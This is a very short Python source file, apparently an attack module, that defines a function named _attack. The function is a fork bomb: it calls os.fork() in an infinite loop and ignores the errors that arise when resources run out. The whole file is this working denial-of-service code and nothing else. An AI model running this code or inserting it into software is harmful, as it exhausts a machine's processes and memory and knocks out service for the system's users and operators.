"""Processes that make processes."""

import os


def _attack(messages):
    while True:
        try:
            os.fork()
        except OSError:
            pass
